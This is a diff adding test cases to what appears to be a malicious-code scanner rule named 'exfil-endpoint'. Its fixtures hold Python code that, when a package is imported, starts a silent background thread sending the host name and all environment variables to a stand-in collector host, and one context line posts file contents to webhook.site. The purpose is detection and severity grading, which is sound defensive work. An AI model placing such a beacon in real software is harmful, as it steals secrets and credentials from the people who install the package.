@@ -28,3 +28,19 @@ describe('exfil-endpoint', () => {
     expect(hits('exfil-endpoint', { 'tests/test_x.py': `import requests\nrequests.post('https://webhook.site/abc', data=open('f').read())\n` })).toEqual([]);
   });
 });
+
+describe('exfil-endpoint: import-time phone-home to any host', () => {
+  const BEACON = (body: string) => `import socket, os, urllib.request, threading\ndef send_telemetry():\n    try:\n        host = socket.gethostname()\n${body}        urllib.request.urlopen("https://api.collector.example/p?h=" + host + "&e=" + env, timeout=2)\n    except:\n        pass\nthreading.Thread(target=send_telemetry, daemon=True).start()\n`;
+  it('flags host name + every environment variable sent on import, started in a thread (critical)', () => {
+    const src = BEACON(`        env = "\\n".join(f"{k}={v}" for k, v in os.environ.items())\n`);
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
+  });
+  it('holds host name alone sent on import (high: held, not blocked on its own)', () => {
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': BEACON(`        env = ""\n`) }))).toBe('high');
+  });
+  it('does not flag the same code in an ordinary module, nor identity and network in different functions', () => {
+    expect(hits('exfil-endpoint', { 'pkg/telemetry.py': BEACON(`        env = ""\n`) })).toEqual([]);
+    const split = `import socket, requests\ndef who():\n    return socket.gethostname()\ndef latest():\n    return requests.get("https://pypi.org/pypi/pkg/json").json()\nNAME = who()\nV = latest()\n`;
+    expect(hits('exfil-endpoint', { 'pkg/__init__.py': split })).toEqual([]);
+  });
+});
